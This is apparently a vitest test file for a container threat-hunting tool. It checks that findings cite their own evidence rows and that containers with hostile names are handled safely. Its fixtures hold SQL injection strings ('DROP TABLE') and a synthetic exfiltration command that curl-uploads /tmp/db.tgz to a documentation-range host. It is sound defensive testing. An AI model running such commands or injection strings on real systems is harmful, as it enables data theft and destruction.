import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Finding, HuntResult } from '../src/model/hunt-result.js';
import { hunt } from '../src/pipeline.js';
import type { Store } from '../src/store/store.js';
import { DEMO, readText, root } from './recorded.js';

/** What a finding rests on can be asked for again: one statement, rows with file and line, and nothing but its own. */

interface Row {
  time: string;
  source: string;
  class: string;
  text: string;
  file: string;
  line: number;
}

const GRACE_MS = 60_000;

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'stowaway-evidence-'));
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

const COMMANDS = 'SELECT file, line FROM command WHERE entity_id = {entity:String}';
/** Of a finding about what came together: also the commands of those who sent it, its files, and what was done to it; of a volume, those of who mounts it. */
const MOUNTERS = "FROM volume_mount WHERE concat('volume:', volume) = {entity:String}";
const GATHERED = `${COMMANDS} OR entity_id IN (SELECT source_id FROM inflow_hour WHERE entity_id = {entity:String}) OR entity_id IN (SELECT entity_id ${MOUNTERS})
  UNION ALL SELECT file, line FROM (SELECT container_uid, file, line FROM file_activity UNION ALL SELECT container_uid, file, line FROM api_activity)
  WHERE substring(container_uid, 1, 12) IN (SELECT short_uid FROM container WHERE entity_id = {entity:String} UNION ALL SELECT short_uid ${MOUNTERS})`;

/** "file:line" of everything but traffic that may be evidence of a finding, whatever time. */
async function commandPlaces(store: Store, { technique, entity }: Finding): Promise<Set<string>> {
  const rows = await store.rows<{ file: string; line: number }>(
    technique === 'T1074.002' ? GATHERED : COMMANDS,
    { entity: `${entity.kind}:${entity.name}` },
  );
  return new Set(rows.map(({ file, line }) => `${file}:${line}`));
}

function expectOwnRows(finding: Finding, rows: Row[], commands: Set<string>): void {
  expect(rows.length).toBeGreaterThan(0);
  const from = Date.parse(finding.window.from) - GRACE_MS;
  const to = Date.parse(finding.window.to) + GRACE_MS;
  for (const row of rows) {
    const at = Date.parse(`${row.time.replace(' ', 'T')}Z`);
    expect(at, row.text).toBeGreaterThanOrEqual(from);
    expect(at, row.text).toBeLessThanOrEqual(to);
    if (row.class === 'traffic') expect(row.text).toContain(finding.entity.ip);
    else expect(commands).toContain(`${row.file}:${row.line}`);
  }
}

/** Records of a log: its lines, or the elements of a JSON document. */
function recordsOf(file: string): string[] {
  const text = readText(file);
  if (!file.endsWith('.json')) return text.split('\n');
  return (JSON.parse(text) as unknown[]).map((element) => JSON.stringify(element));
}

describe.each(DEMO)('$name', ({ name, folder: logs }) => {
  let result: HuntResult;
  let open: Finding[];
  const rows = new Map<string, Row[]>();
  const commands = new Map<string, Set<string>>();
  beforeAll(async () => {
    result = await hunt([logs], {
      store: { path: join(folder, name) },
      async inspect(store, { report }) {
        for (const finding of report.findings) {
          rows.set(finding.uid, await store.rows<Row>(finding.evidence_query));
          commands.set(finding.uid, await commandPlaces(store, finding));
        }
      },
    });
    open = result.report.findings.filter(({ status }) => status === 'open');
  });

  test('every finding gives back rows of its own time and entity', () => {
    expect(open.length).toBeGreaterThan(0);
    for (const finding of result.report.findings) {
      expectOwnRows(finding, rows.get(finding.uid)!, commands.get(finding.uid)!);
    }
  });

  test('every row names a line that exists and says the same', () => {
    const files = new Map<string, string[]>();
    for (const row of open.flatMap(({ uid }) => rows.get(uid)!)) {
      if (!files.has(row.file)) files.set(row.file, recordsOf(row.file));
      const line = files.get(row.file)![row.line - 1];
      expect(line, `${row.file}:${row.line}`).toBeTruthy();
      // The destination, or where none is outside, who talked inside.
      const [address] = /\b198\.51\.100\.\d+\b/.exec(row.text) ?? /\b10\.96\.0\.\d+\b/.exec(row.text) ?? [];
      if (row.class === 'traffic') expect(line).toContain(address);
    }
  });

  test('`stowaway query` over the kept store gives the same rows', async ({ skip }) => {
    const command = join(root, 'dist', 'cli', 'main.js');
    if (!existsSync(command)) skip('dist is not built: node scripts/setup.mjs');
    const finding = open[0]!;
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [command, 'query', finding.evidence_query, '--store', join(folder, name)],
      { maxBuffer: 64 * 1024 * 1024 },
    );
    const asked = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Row);
    expect(asked).toEqual(rows.get(finding.uid));
  });
});

const HOSTILE = [
  "o'hara",
  "'); DROP TABLE load; --",
  'back\\slash\\',
  "\\'); DROP TABLE load; --",
  'two\nlines',
  'nul\u0000 and \u0007bell',
  'ünïcödé 容器 🐳',
  '`backtick` "quoted" {entity:String}',
  '</script><b>%s {{input}}',
];

describe('containers with hostile names', () => {
  let result: HuntResult;
  const rows = new Map<string, Row[]>();
  const commands = new Map<string, Set<string>>();
  let loads = 0;
  beforeAll(async () => {
    const logs = join(folder, 'hostile');
    await mkdir(logs);
    await writeFile(join(logs, 'inspect.json'), JSON.stringify(HOSTILE.map(container)));
    await writeFile(join(logs, 'events.ndjson'), HOSTILE.map(execEvent).join(''));
    await writeFile(join(logs, 'conntrack.txt'), HOSTILE.map(upload).join(''));
    result = await hunt([logs], {
      async inspect(store, { report }) {
        for (const finding of report.findings) {
          rows.set(finding.uid, await store.rows<Row>(finding.evidence_query));
          commands.set(finding.uid, await commandPlaces(store, finding));
        }
        loads = (await store.rows<{ n: number }>('SELECT count() AS n FROM load'))[0]!.n;
      },
    });
  });

  test('each is found under the name it has', () => {
    const found = result.report.findings
      .filter(({ status }) => status === 'open')
      .map(({ entity }) => entity.name);
    expect([...new Set(found)].sort()).toEqual([...HOSTILE].sort());
  });

  test('each gives back its own rows, and no statement hides in a name', () => {
    for (const finding of result.report.findings) {
      expectOwnRows(finding, rows.get(finding.uid)!, commands.get(finding.uid)!);
      expect([...finding.evidence_query].filter((one) => one < ' ' && one !== '\n')).toEqual([]);
    }
    expect(loads).toBe(3);
    expect(result.mismatches).toEqual([]);
  });
});

const START = Date.parse('2026-11-01T10:00:00Z') / 1000;
const idOf = (index: number): string => (index + 10).toString(16).padStart(2, '0').repeat(32);
const addressOf = (index: number): string => `10.96.0.${index + 10}`;

function container(name: string, index: number): object {
  return {
    Id: idOf(index),
    Name: `/${name}`,
    Created: '2026-11-01T09:00:00Z',
    Path: 'sleep',
    Args: ['infinity'],
    Image: `sha256:${'ab'.repeat(32)}`,
    State: { Running: true, StartedAt: '2026-11-01T09:00:00Z', FinishedAt: '0001-01-01T00:00:00Z' },
    Config: { Image: 'localhost/lab/tools:1', Labels: { note: name } },
    HostConfig: { NetworkMode: 'workloads' },
    NetworkSettings: { Networks: { workloads: { IPAddress: addressOf(index) } } },
    Mounts: [],
  };
}

function execEvent(name: string, index: number): string {
  const time = START + index * 600;
  const action = `exec_create: curl -T /tmp/db.tgz http://198.51.100.${index + 10}/drop`;
  const attributes = { execID: idOf(index), image: 'localhost/lab/tools:1', name };
  const actor = { ID: idOf(index), Attributes: attributes };
  return `${JSON.stringify({ status: action, id: idOf(index), from: 'localhost/lab/tools:1', Type: 'container', Action: action, Actor: actor, scope: 'local', time, timeNano: time * 1e9 })}\n`;
}

function upload(_name: string, index: number): string {
  const there = `198.51.100.${index + 10}`;
  const time = START + index * 600 + 5;
  return `[${time}.500000]\t[DESTROY] ipv4     2 tcp      6 src=${addressOf(index)} dst=${there} sport=40000 dport=80 packets=9000 bytes=60000000 src=${there} dst=198.51.100.1 sport=80 dport=40000 packets=100 bytes=5000 [ASSURED] delta-time=3 [start=${new Date((time - 3) * 1000).toUTCString().replace(/^(\w+), (\d+) (\w+) (\d+) (.*) GMT$/, '$1 $3 $2 $5 $4')}] id=${1000 + index}\n`;
}
